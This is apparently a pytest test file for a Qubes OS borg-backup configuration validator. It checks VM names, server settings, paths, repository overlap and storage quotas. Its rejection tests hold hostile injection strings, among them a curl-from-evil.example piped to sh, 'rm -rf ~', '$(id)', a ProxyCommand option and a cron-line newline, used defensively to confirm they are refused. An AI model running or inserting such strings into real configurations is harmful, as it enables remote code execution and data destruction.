"""validate_settings: the merged pillar is normalised, and every bad value
fails with a QborgConfigError naming its pillar path."""

import pytest

import _qborg_base as base
import _qborg_servers as servers_mod
import _qborg_settings as settings_mod
import _qborg_repos as repos_mod


def test_complete_config_normalises(merged):
    s = settings_mod.validate_settings(merged)
    assert s["admin_vm"] == "backup-admin"
    assert s["user"] == "user"
    assert sorted(s["vms"]) == ["vm-mail", "vm-personal", "vm-work"]
    server = s["server"]
    assert (server["host"], server["user"], server["repos_dir"]) == ("de1234.rsync.net", "de1234", "qborg")
    assert server["admin_key"] == "~/.ssh/qborg-admin"
    assert server["host_key"] is None
    assert s["paths"] == {"prefix": "/usr/local", "policy_dir": "/etc/qubes/policy.d"}


def test_vm_overrides_win_over_defaults_and_others_inherit(merged, defaults):
    vms = settings_mod.validate_settings(merged)["vms"]
    personal = vms["vm-personal"]
    assert personal["source_directories"] == ["/home/user/Documents", "/home/user/Pictures"]
    assert personal["interval_seconds"] == 30 * 60
    assert personal["storage_quota"] == "200G"
    assert personal["exclude_patterns"] == defaults["defaults"]["exclude_patterns"]
    for name in ("vm-work", "vm-mail"):  # `{}` and a bare key (None) mean "all defaults"
        vm = vms[name]
        assert vm["source_directories"] == defaults["defaults"]["source_directories"]
        assert vm["interval_seconds"] == 3600
        assert vm["storage_quota"] is None
        assert vm["encryption"] == "repokey-blake2"
        assert vm["retention"] == defaults["defaults"]["retention"]


def test_vm_settings_are_independent_copies(merged):
    vms = settings_mod.validate_settings(merged)["vms"]
    vms["vm-work"]["exclude_patterns"].append("/x")
    assert "/x" not in vms["vm-mail"]["exclude_patterns"]


def test_no_vms_is_valid(merge):
    s = settings_mod.validate_settings(merge({"server": {"host": "backup.example.org", "user": "u"}}))
    assert s["vms"] == {}


@pytest.mark.parametrize("provider, port, remote_path", [
    ("rsync.net", 22, "borg14"),
    ("hetzner", 23, "borg-1.4"),
    ("generic", 22, "borg"),
    ("borgbase", 22, "borg"),
])
def test_provider_presets(merged, provider, port, remote_path):
    merged["server"]["provider"] = provider
    if provider == "borgbase":
        as_borgbase(merged)
    server = settings_mod.validate_settings(merged)["server"]
    assert server["provider"] == provider
    assert (server["port"], server["remote_path"]) == (port, remote_path)


def as_borgbase(merged):
    """BorgBase: one account per repository, set per VM; its host key pinned."""
    merged["server"].update(provider="borgbase", host_key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1c")
    for i, vm in enumerate(sorted(merged["vms"])):
        merged["vms"][vm] = dict(merged["vms"][vm] or {},
                                 repository=f"ssh://r{i}x@r{i}x.repo.borgbase.com/./repo")
    return merged


def test_only_borgbase_is_not_uploaded(merged):
    as_borgbase(merged)
    assert settings_mod.validate_settings(merged)["server"]["upload"] is False
    merged["server"]["provider"] = "hetzner"
    assert settings_mod.validate_settings(merged)["server"]["upload"] is True


def test_explicit_pillar_values_override_presets(merged):
    merged["server"].update(provider="hetzner", port=2222, remote_path="/usr/local/bin/borg")
    server = settings_mod.validate_settings(merged)["server"]
    assert (server["port"], server["remote_path"]) == (2222, "/usr/local/bin/borg")


def test_host_key_comment_is_dropped(merged):
    merged["server"]["host_key"] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1c root@server"
    assert settings_mod.validate_settings(merged)["server"]["host_key"] == \
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1c"


def test_repos_dir_trailing_slash_is_stripped(merged):
    merged["server"]["repos_dir"] = "backups/qborg/"
    assert settings_mod.validate_settings(merged)["server"]["repos_dir"] == "backups/qborg"


@pytest.mark.parametrize("paths", [["~"], ["~/Documents", "/srv/data"]])
def test_home_relative_paths_accepted(merged, paths):
    merged["vms"]["vm-work"] = {"source_directories": paths, "exclude_patterns": ["~/.cache"]}
    vm = settings_mod.validate_settings(merged)["vms"]["vm-work"]
    assert vm["source_directories"] == paths


def test_admin_key_home_relative_accepted(merged):
    merged["server"]["admin_key"] = "~/.ssh/other"
    assert settings_mod.validate_settings(merged)["server"]["admin_key"] == "~/.ssh/other"


@pytest.mark.parametrize("name", [
    "a", "vm-personal", "Work_2.test", "a" * 31,
])
def test_valid_vm_names(merged, name):
    merged["vms"] = {name: {}}
    assert list(settings_mod.validate_settings(merged)["vms"]) == [name]


@pytest.mark.parametrize("name", [
    "vm;rm", "vm'q", 'vm"q', "vm name", "a" * 32, "1vm", "-vm", "vm/x", "dom0", "",
    "vm\n", "vmé",
])
def test_bad_vm_names_fail_naming_the_path(merged, name):
    merged["vms"] = {name: {}}
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    assert f"qborg:vms:{name}" in str(exc.value)


def test_non_string_vm_name_fails(merged):
    merged["vms"] = {123: {}}
    with pytest.raises(base.QborgConfigError, match="qborg:vms:123"):
        settings_mod.validate_settings(merged)


def set_path(raw, path, value):
    *parents, last = path
    node = raw
    for key in parents:
        node = node[key]
    node[last] = value


BAD_VALUES = [
    (("admin_vm",), "dom0", "qborg:admin_vm"),
    (("admin_vm",), "admin;x", "qborg:admin_vm"),
    (("admin_vm",), None, "qborg:admin_vm"),
    (("admin_vm",), "vm-work", "qborg:vms:vm-work"),  # admin as its own client
    (("user",), "root;x", "qborg:user"),
    (("user",), "User", "qborg:user"),
    (("user",), 5, "qborg:user"),
    (("server",), "de1234.rsync.net", "qborg:server"),
    (("server", "provider"), "dropbox", "qborg:server:provider"),
    (("server", "provider"), ["rsync.net"], "qborg:server:provider"),
    (("server", "host"), None, "qborg:server:host"),
    (("server", "host"), "-oProxyCommand=x", "qborg:server:host"),
    (("server", "host"), "host name", "qborg:server:host"),
    (("server", "user"), "de 1234", "qborg:server:user"),
    (("server", "user"), None, "qborg:server:user"),
    (("server", "port"), 0, "qborg:server:port"),
    (("server", "port"), 65536, "qborg:server:port"),
    (("server", "port"), "22", "qborg:server:port"),
    (("server", "port"), True, "qborg:server:port"),
    (("server", "remote_path"), 'borg14" serve; rm -rf ~ #', "qborg:server:remote_path"),
    (("server", "remote_path"), "borg 14", "qborg:server:remote_path"),
    (("server", "repos_dir"), "/abs", "qborg:server:repos_dir"),
    (("server", "repos_dir"), "qborg/../other", "qborg:server:repos_dir"),
    (("server", "repos_dir"), "a b", "qborg:server:repos_dir"),
    (("server", "host_key"), "ssh-ed25519", "qborg:server:host_key"),
    (("server", "host_key"), "ssh-dss AAAAB3Nza", "qborg:server:host_key"),
    (("server", "admin_key"), "qborg-admin", "qborg:server:admin_key"),
    (("server", "admin_key"), "~", "qborg:server:admin_key"),
    (("server", "admin_key"), "/a\nb", "qborg:server:admin_key"),
    (("paths",), "usr/local", "qborg:paths"),
    (("paths", "prefix"), "usr/local", "qborg:paths:prefix"),
    (("paths", "policy_dir"), "policy.d", "qborg:paths:policy_dir"),
    (("defaults",), ["x"], "qborg:defaults"),
    (("defaults", "colour"), "blue", "qborg:defaults:colour"),
    (("vms",), ["vm-work"], "qborg:vms"),
    (("vms", "vm-work"), ["x"], "qborg:vms:vm-work"),
    (("vms", "vm-work"), {"sources": ["/x"]}, "qborg:vms:vm-work:sources"),
    (("vms", "vm-work"), {"interval": "1 hour"}, "qborg:vms:vm-work:interval"),
    (("vms", "vm-work"), {"interval": "0h"}, "qborg:vms:vm-work:interval"),
    (("vms", "vm-work"), {"interval": 3600}, "qborg:vms:vm-work:interval"),
    (("vms", "vm-work"), {"encryption": "none"}, "qborg:vms:vm-work:encryption"),
    (("vms", "vm-work"), {"compression": "zstd; rm"}, "qborg:vms:vm-work:compression"),
    (("vms", "vm-work"), {"source_directories": []}, "qborg:vms:vm-work:source_directories"),
    (("vms", "vm-work"), {"source_directories": "/home"}, "qborg:vms:vm-work:source_directories"),
    (("vms", "vm-work"), {"source_directories": ["home/user"]},
     "qborg:vms:vm-work:source_directories[0]"),
    (("vms", "vm-work"), {"source_directories": ["/ok", "/a\nb"]},
     "qborg:vms:vm-work:source_directories[1]"),
    (("vms", "vm-work"), {"exclude_patterns": "*.pyc"}, "qborg:vms:vm-work:exclude_patterns"),
    (("vms", "vm-work"), {"exclude_patterns": [""]}, "qborg:vms:vm-work:exclude_patterns[0]"),
    (("vms", "vm-work"), {"retention": [1]}, "qborg:vms:vm-work:retention"),
    (("vms", "vm-work"), {"retention": {"keep_forever": 1}}, "qborg:vms:vm-work:retention:keep_forever"),
    (("vms", "vm-work"), {"retention": {"keep_daily": -1}}, "qborg:vms:vm-work:retention:keep_daily"),
    (("vms", "vm-work"), {"retention": {"keep_daily": "7"}}, "qborg:vms:vm-work:retention:keep_daily"),
    (("vms", "vm-work"), {"retention": {"keep_daily": True}}, "qborg:vms:vm-work:retention:keep_daily"),
    (("vms", "vm-work"), {"storage_quota": "200 GB"}, "qborg:vms:vm-work:storage_quota"),
    (("vms", "vm-work"), {"storage_quota": "200G --x"}, "qborg:vms:vm-work:storage_quota"),
]


@pytest.mark.parametrize("path, value, field", BAD_VALUES,
                         ids=[f"{':'.join(p)}={v!r}" for p, v, _f in BAD_VALUES])
def test_bad_value_fails_naming_the_field(merged, path, value, field):
    set_path(merged, path, value)
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    message = str(exc.value)
    assert message.startswith(field + ":") or message.startswith(field + "[") \
        or f"{field}:" in message, message
    assert "pillar" in message  # says where to fix it


def test_missing_config_fails():
    for raw in (None, [], "qborg"):
        with pytest.raises(base.QborgConfigError, match="^qborg:"):
            settings_mod.validate_settings(raw)


def test_validation_does_not_mutate_the_input(merged):
    import copy

    before = copy.deepcopy(merged)
    settings_mod.validate_settings(merged)
    assert merged == before


@pytest.mark.parametrize("text, seconds", [
    ("30m", 1800), ("1h", 3600), ("2d", 172800), ("1w", 604800),
])
def test_parse_interval(text, seconds):
    assert settings_mod.parse_interval(text) == seconds


def test_expand_home():
    assert settings_mod.expand_home("~", "/home/u") == "/home/u"
    assert settings_mod.expand_home("~/.cache", "/home/u") == "/home/u/.cache"
    assert settings_mod.expand_home("/etc", "/home/u") == "/etc"
    assert settings_mod.expand_home("*.pyc", "/home/u") == "*.pyc"


def test_pillar_example_validates(merge):
    import pathlib

    import yaml

    example = pathlib.Path(__file__).resolve().parents[2] / "pillar.example"
    pillar = yaml.safe_load(example.read_text())["qborg"]
    settings = settings_mod.validate_settings(merge(pillar))
    assert settings["vms"], "pillar.example should show at least one VM"
    for vm in settings["vms"].values():
        assert vm["interval_seconds"] > 0


HOST_KEY_LINE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1c"


@pytest.mark.parametrize("value", [
    HOST_KEY_LINE + "\n[evil.example]:22 " + HOST_KEY_LINE,  # a second known_hosts line
    HOST_KEY_LINE + " comment\r\nx",
    HOST_KEY_LINE + "\0",
    'command="/bin/sh" ' + HOST_KEY_LINE,  # options in front
    "@cert-authority * " + HOST_KEY_LINE,  # a known_hosts marker
    "ssh-ed25519 AAAA\"quote",
    "ssh-ed25519",
    "",
    123,
], ids=["second-line", "crlf", "nul", "options", "marker", "quote", "no-key", "empty", "number"])
def test_hostile_host_key_fails_naming_the_field(merged, value):
    merged["server"]["host_key"] = value
    if value == "":  # empty means "learn it on first use"
        assert settings_mod.validate_settings(merged)["server"]["host_key"] is None
        return
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    assert str(exc.value).startswith("qborg:server:host_key:")
    assert "fix it in the qborg pillar" in str(exc.value)


@pytest.mark.parametrize("key", ["prefix", "policy_dir"])
@pytest.mark.parametrize("value", [
    "/usr/local/bin/x;curl http://evil.example/x|sh;#",
    "/usr/local/$(id)",
    "/usr/local/`id`",
    "/usr/local bin",
    "/usr/local\n* * * * * root sh",
    "/usr/local'",
    "/usr/local/../../etc",
    "/usr/./local",
    "//usr/local",
    "/usr//local",
    "usr/local",
    "~/bin",
    "/" + "a" * 201,
    ["/usr/local"],
], ids=["semicolon-pipe", "dollar-paren", "backtick", "space", "newline", "quote", "dotdot",
        "dot", "double-slash-start", "double-slash", "relative", "tilde", "too-long", "list"])
def test_hostile_prefix_and_policy_dir_fail_naming_the_field(merged, key, value):
    merged.setdefault("paths", {})[key] = value
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    assert str(exc.value).startswith(f"qborg:paths:{key}:")
    assert "plain absolute path such as /usr/local" in str(exc.value)
    assert "fix it in the qborg pillar" in str(exc.value)


@pytest.mark.parametrize("value", ["/usr/local", "/usr/local/", "/opt/qborg-1.2_x",
                                   "/rw/usrlocal", "/"])
def test_plain_absolute_prefixes_are_accepted(merged, value):
    merged.setdefault("paths", {})["prefix"] = value
    assert settings_mod.validate_settings(merged)["paths"]["prefix"] == (value.rstrip("/") or "/")


def test_templates_and_admin_template_are_qube_names(merged):
    merged["templates"] = ["debian-12-xfce", "fedora-41"]
    merged["admin_template"] = "debian-12-xfce"
    settings_mod.validate_settings(merged)
    merged["admin_template"] = None
    settings_mod.validate_settings(merged)


@pytest.mark.parametrize("key,value,field", [
    ("templates", "debian-12-xfce", "qborg:templates"),
    ("templates", ["debian-12-xfce", "bad name"], r"qborg:templates\[1\]"),
    ("templates", ["dom0"], r"qborg:templates\[0\]"),
    ("admin_template", "debian 12", "qborg:admin_template"),
    ("admin_template", ["debian-12-xfce"], "qborg:admin_template"),
])
def test_bad_templates_name_the_field(merged, key, value, field):
    merged[key] = value
    with pytest.raises(base.QborgConfigError, match="^" + field):
        settings_mod.validate_settings(merged)


# ------------------------------------------------ each VM's own repository

SERVER_URL = "ssh://de1234@de1234.rsync.net"
OTHER_HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1c"


def refused(merged):
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    message = str(exc.value)
    assert "each VM needs a repository of its own" in message
    assert message.endswith("; fix it in the qborg pillar")
    return message


@pytest.mark.parametrize("url", [
    f"{SERVER_URL}:22/./qborg/vm-personal",
    f"{SERVER_URL}/./qborg/vm-personal",  # the server's port when none is given
    f"{SERVER_URL}/./qborg/./vm-personal",
    f"{SERVER_URL}/./qborg//vm-personal",
    f"{SERVER_URL}/./qborg/vm-personal/",
    f"{SERVER_URL}/./qborg/vm-personal/.",
    "ssh://de1234@DE1234.rsync.net././qborg/vm-personal",
], ids=["port", "no-port", "dot", "double-slash", "trailing-slash", "trailing-dot", "host-case"])
def test_a_repository_that_is_another_vms_default_one_is_refused_naming_both(merged, url):
    merged["server"]["host_key"] = OTHER_HOST_KEY  # DE1234.rsync.net. is spelt as another host
    merged["vms"]["vm-work"] = {"repository": url}
    message = refused(merged)
    assert message.startswith("qborg:vms:vm-work:repository: ")
    assert (f"is the same repository as vm-personal's ({SERVER_URL}:22/./qborg/vm-personal, "
            f"its default place under qborg:server:repos_dir)") in message


def test_two_vms_naming_the_same_repository_are_refused_naming_both(merged):
    merged["vms"]["vm-mail"] = {"repository": f"{SERVER_URL}/./shared/repo"}
    merged["vms"]["vm-work"] = {"repository": f"{SERVER_URL}:22/./shared//repo/"}
    message = refused(merged)
    assert message.startswith(f"qborg:vms:vm-work:repository: {SERVER_URL}:22/./shared//repo "
                              f"is the same repository as vm-mail's ({SERVER_URL}:22/./shared/"
                              f"repo, qborg:vms:vm-mail:repository)")


@pytest.mark.parametrize("outer, inner", [("vm-mail", "vm-work"), ("vm-work", "vm-mail")])
def test_a_repository_inside_another_is_refused_either_way(merged, outer, inner):
    merged["vms"][outer] = {"repository": f"{SERVER_URL}/./repos/a"}
    merged["vms"][inner] = {"repository": f"{SERVER_URL}/./repos/./a//b"}
    message = refused(merged)
    assert message.startswith(f"qborg:vms:{inner}:repository: {SERVER_URL}:22/./repos/./a//b "
                              f"is inside {outer}'s repository ({SERVER_URL}:22/./repos/a, "
                              f"qborg:vms:{outer}:repository)")


def test_a_repository_inside_another_vms_default_one_is_refused(merged):
    merged["vms"]["vm-work"] = {"repository": f"{SERVER_URL}/./qborg/vm-personal/inner"}
    message = refused(merged)
    assert message.startswith("qborg:vms:vm-work:repository: ")
    assert "is inside vm-personal's repository" in message


@pytest.mark.parametrize("repos_dir, path, what", [
    ("qborg", "qborg", "is qborg:server:repos_dir itself"),
    ("qborg", "qborg/", "is qborg:server:repos_dir itself"),
    ("qborg", "qborg/.", "is qborg:server:repos_dir itself"),
    ("backups/qborg", "backups", "contains qborg:server:repos_dir (backups/qborg)"),
    ("backups/qborg/", "backups//qborg", "is qborg:server:repos_dir itself"),
])
def test_a_repository_that_holds_repos_dir_is_refused(merged, repos_dir, path, what):
    """repos_dir holds every default repository: a VM there (or above it)
    would hold all of them, today's and any added later."""
    merged["server"]["repos_dir"] = repos_dir
    merged["vms"] = {"vm-work": {"repository": f"{SERVER_URL}/./{path}"}}  # alone, even
    message = refused(merged)
    shown = path.rstrip("/")  # the URL's trailing '/' is dropped, as everywhere
    assert message.startswith(f"qborg:vms:vm-work:repository: {SERVER_URL}:22/./{shown} {what}, "
                              "where every VM without a repository of its own gets one")


@pytest.mark.parametrize("url", [
    f"{SERVER_URL}/./qborg/vm-personal2",  # a sibling whose name starts alike
    f"{SERVER_URL}/./qborg-old/vm-personal",
    f"{SERVER_URL}/./vm-personal",
    "ssh://other@de1234.rsync.net/./qborg/vm-personal",  # another user: another home
    f"{SERVER_URL}:2222/./qborg/vm-personal",  # another port: another server
    "ssh://de1234@de5678.rsync.net/./qborg/vm-personal",  # another host
], ids=["sibling", "other-dir", "home", "other-user", "other-port", "other-host"])
def test_repositories_apart_are_accepted(merged, url):
    merged["server"]["host_key"] = OTHER_HOST_KEY  # pinned: some are on another server
    merged["vms"]["vm-work"] = {"repository": url}
    merged["vms"]["vm-mail"] = {"repository": url.replace("vm-personal", "vm-mail")}
    settings = settings_mod.validate_settings(merged)
    assert settings["vms"]["vm-work"]["repository"] == url


def test_borgbase_repositories_of_the_same_name_on_other_accounts_are_apart(merged):
    as_borgbase(merged)  # every VM: ./repo, each on its own account
    assert len(settings_mod.validate_settings(merged)["vms"]) == 3
    merged["vms"]["vm-work"]["repository"] = merged["vms"]["vm-mail"]["repository"]
    assert "the same repository as vm-mail's" in refused(merged)


@pytest.mark.parametrize("path, normal", [
    ("qborg/vm-a", "qborg/vm-a"), ("qborg/./vm-a", "qborg/vm-a"), ("qborg//vm-a/", "qborg/vm-a"),
    ("./qborg/vm-a", "qborg/vm-a"), ("qborg/vm-a/.", "qborg/vm-a"), ("//qborg", "qborg"),
])
def test_normalise_repository_path(path, normal):
    assert servers_mod.normalise_repository_path(path) == normal


# ------------------------------------------------------------ storage quota


@pytest.mark.parametrize("text, size", [
    ("10M", 10_000_000), ("200G", 200 * 10 ** 9), ("1.5T", 1_500_000_000_000), ("1P", 10 ** 15),
    ("9999999", 9_999_999), ("0.01G", 10_000_000), ("2K", 2000),
])
def test_parse_size_reads_sizes_as_borg_does(text, size):
    assert settings_mod.parse_size(text) == size


@pytest.mark.parametrize("quota", ["5M", "9999999", "9.9M", "0.0099G", "0", "0K", "9999.999K"])
def test_a_quota_below_borgs_minimum_is_refused_naming_the_field(merged, quota):
    merged["vms"]["vm-work"] = {"storage_quota": quota}
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    assert str(exc.value) == (
        f"qborg:vms:vm-work:storage_quota: {quota} is below borg's minimum storage quota of "
        f"10M (borg serve refuses to start with it, so every backup of vm-work would fail); "
        f"set at least 10M, e.g. 200G, or null for no quota; fix it in the qborg pillar")


@pytest.mark.parametrize("quota", ["10M", "10000000", 10000000, "0.01G", "10000K", "200G", "1T"])
def test_a_quota_of_at_least_10M_is_accepted(merged, quota):
    merged["vms"]["vm-work"] = {"storage_quota": quota}
    assert settings_mod.validate_settings(merged)["vms"]["vm-work"]["storage_quota"] == str(quota)


@pytest.mark.parametrize("quota, what", [("5M", "is below borg's minimum storage quota of 10M"),
                                         ("200 GB", "is not a size like 200G")])
def test_a_bad_default_quota_names_the_defaults_field(merged, quota, what):
    merged["defaults"]["storage_quota"] = quota
    with pytest.raises(base.QborgConfigError) as exc:
        settings_mod.validate_settings(merged)
    assert str(exc.value).startswith("qborg:defaults:storage_quota: ")
    assert what in str(exc.value)
    if "minimum" in what:
        assert "every backup of each VM that inherits it would fail" in str(exc.value)


def test_a_vm_quota_overrides_a_bad_default_quota_only_for_itself(merged):
    merged["defaults"]["storage_quota"] = "5M"
    merged["vms"] = {"vm-personal": {"storage_quota": "200G"}}
    assert settings_mod.validate_settings(merged)["vms"]["vm-personal"]["storage_quota"] == "200G"


# ------------------------------------------------- a shared account, no quota


def test_vms_sharing_the_account_without_quota_get_one_warning_naming_them(merged):
    # vm-personal has 200G, vm-work and vm-mail none, all three on de1234's account
    assert repos_mod.shared_account_warnings(settings_mod.validate_settings(merged)) == [
        "the server's account de1234@de1234.rsync.net:22 holds the repositories of 3 VMs "
        "and vm-mail, vm-work have no storage_quota: one VM can fill the account and stop "
        "the backups of every VM on it; set qborg:defaults:storage_quota (e.g. 200G; at "
        "least 10M), or a storage_quota for each of them"]


def test_one_vm_without_quota_among_others_is_named_alone(merged):
    merged["vms"]["vm-mail"] = {"storage_quota": "50G"}
    (warning,) = repos_mod.shared_account_warnings(settings_mod.validate_settings(merged))
    assert "3 VMs and vm-work has no storage_quota" in warning


@pytest.mark.parametrize("change", ["default-quota", "one-vm", "others-elsewhere", "borgbase"])
def test_no_warning_when_no_vm_can_fill_the_others_account(merged, change):
    if change == "default-quota":
        merged["defaults"]["storage_quota"] = "200G"
    elif change == "one-vm":
        merged["vms"] = {"vm-work": {}}
    elif change == "others-elsewhere":  # vm-personal has its quota; the others: other accounts
        merged["server"]["host_key"] = OTHER_HOST_KEY
        merged["vms"]["vm-work"] = {"repository": "ssh://u1@u1.example.org/./repo"}
        merged["vms"]["vm-mail"] = {"repository": "ssh://u2@u2.example.org/./repo"}
        merged["vms"]["vm-other"] = {"storage_quota": "1T"}
    else:
        as_borgbase(merged)
    assert repos_mod.shared_account_warnings(settings_mod.validate_settings(merged)) == []


def test_a_vm_with_its_own_path_on_the_account_shares_it(merged):
    merged["vms"] = {"vm-work": {"repository": f"{SERVER_URL}/./elsewhere/vm-work"},
                     "vm-mail": {"storage_quota": "20G"}}
    (warning,) = repos_mod.shared_account_warnings(settings_mod.validate_settings(merged))
    assert "holds the repositories of 2 VMs and vm-work has no storage_quota" in warning
